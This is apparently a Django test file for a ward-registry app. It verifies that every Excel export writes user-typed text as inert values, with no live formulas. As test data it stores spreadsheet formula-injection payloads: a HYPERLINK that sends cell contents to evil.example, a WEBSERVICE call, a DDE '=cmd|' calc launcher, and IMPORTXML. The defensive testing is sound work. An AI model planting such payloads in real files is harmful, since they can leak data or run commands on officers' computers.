"""Every Excel export writes what people typed as text (security test findings 4 and 5).

A resident named `=HYPERLINK(...)` or an address `=WEBSERVICE(...)` used to become a live
formula in the file an officer opens; a name holding a vertical tab, or a search for
"%00%00" written to the audit log, made an export fail for the whole commune. Each
export is made here through its real code path with hostile text stored in the
database, then read back as the raw sheet XML: no formula, the text as typed.
"""

from __future__ import annotations

import io
import re
import zipfile

import openpyxl
import pytest
from django.urls import reverse

from digiward.core.models import Job, JobStatus
from digiward.core.testing import client_in
from digiward.donations.exports import sponsor_report_xlsx
from digiward.donations.selectors import sponsor_report
from digiward.donations.services import allocation_create, handover_record
from digiward.donations.tests.factories import handover_today, scenario
from digiward.registry.imports.runner import error_report_xlsx, import_file
from digiward.registry.models import Household, Resident
from digiward.registry.tests.factories import HouseholdFactory, ResidentFactory

pytestmark = pytest.mark.django_db

NAME = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'
ADDRESS = '=WEBSERVICE("http://evil.example/")'
BROKEN = "Trần\x0bVăn\x01Ba"  # stored before the edges cleaned control characters


def sheet_xml(content: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        return "".join(
            book.read(name).decode()
            for name in book.namelist()
            if name.startswith("xl/worksheets/")
        )


def assert_inert(content: bytes, *texts: str) -> None:
    xml = sheet_xml(content)
    assert "<f>" not in xml and "<f " not in xml, "a cell is a formula"
    cells = [
        cell
        for row in openpyxl.load_workbook(io.BytesIO(content)).active.iter_rows()
        for cell in row
    ]
    assert all(cell.data_type != "f" for cell in cells)
    values = " | ".join(str(cell.value) for cell in cells)
    for text in texts:
        assert text in values, text


def job_file(kind: str) -> bytes:
    job = Job.objects.get(kind=kind)
    assert job.status == JobStatus.SUCCEEDED, job.error
    with job.result_file.open("rb") as handle:
        return handle.read()


@pytest.fixture
def hostile_household(commune):
    household = HouseholdFactory(commune=commune, code="NK-X1", street=ADDRESS)
    ResidentFactory(commune=commune, household=household, full_name=NAME)
    # Written past the model's save(), as an old import or a raw fix would have.
    broken = ResidentFactory(commune=commune, household=household, full_name="tạm")
    Resident.objects.filter(pk=broken.pk).update(full_name=BROKEN, name_folded="tran van ba")
    return household


def test_registry_export(commune, officer, hostile_household, django_capture_on_commit_callbacks):
    with django_capture_on_commit_callbacks(execute=True):
        client_in(officer, commune).post(reverse("registry:export"), {})
    content = job_file("registry.export")
    assert_inert(content, NAME, ADDRESS, "TrầnVănBa")


def test_audit_export_survives_a_nul_search(
    commune, admin, volunteer, django_capture_on_commit_callbacks
):
    client_in(volunteer, commune).get(reverse("registry:home"), {"q": "%00%00=cmd|' /C calc'!A0"})
    client_in(volunteer, commune).get(reverse("registry:home") + "?q=%00%00")
    with django_capture_on_commit_callbacks(execute=True):
        client_in(admin, commune).post(reverse("core:audit_export"), {})
    content = job_file("core.audit_export")
    assert_inert(content, "=cmd|")


def test_priority_list_export(commune, officer, django_capture_on_commit_callbacks):
    s = scenario(commune, officer, households=2, phones=1, sims=0, lock=False)
    Resident.objects.filter(pk=s.head(0).pk).update(full_name=NAME)
    Household.objects.filter(pk=s.households[0].pk).update(street=ADDRESS)
    client = client_in(officer, commune)
    with django_capture_on_commit_callbacks(execute=True):
        client.post(reverse("donations:ranking_start", args=[s.campaign.pk]))
    with django_capture_on_commit_callbacks(execute=True):
        client.post(reverse("donations:list_export", args=[s.campaign.pk]))
    assert_inert(job_file("donations.export_list"), NAME, ADDRESS)


def test_sponsor_report(commune, officer):
    s = scenario(commune, officer, households=1, phones=1, sims=0)
    Resident.objects.filter(pk=s.head(0).pk).update(full_name=NAME)
    allocations = allocation_create(
        access=s.access,
        campaign=s.campaign,
        household=s.households[0],
        recipient=Resident.objects.get(pk=s.head(0).pk),
        items=[s.phones[0]],
    )
    handover_record(
        access=s.access,
        campaign=s.campaign,
        allocations=allocations,
        details=handover_today(consent_to_share=True),
    )
    assert_inert(sponsor_report_xlsx(sponsor_report(s.campaign)), NAME)


def test_import_error_report(commune, officer, tmp_path):
    ward_list = tmp_path / "ds.csv"
    ward_list.write_text(
        f'Mã hộ,Họ và tên,Năm sinh,Số CCCD\nNK1,"{NAME.replace(chr(34), chr(34) * 2)}",1950,=1+1\n',
        encoding="utf-8",
    )
    report = import_file(ward_list, commune=commune, acting_user=officer, dry_run=True)
    assert report.rejected, "the bad citizen ID is a rejected row"
    content = error_report_xlsx(report, filename='=IMPORTXML("x")')
    xml = sheet_xml(content)
    assert "<f>" not in xml and "<f " not in xml
    assert re.search(r"IMPORTXML", xml)
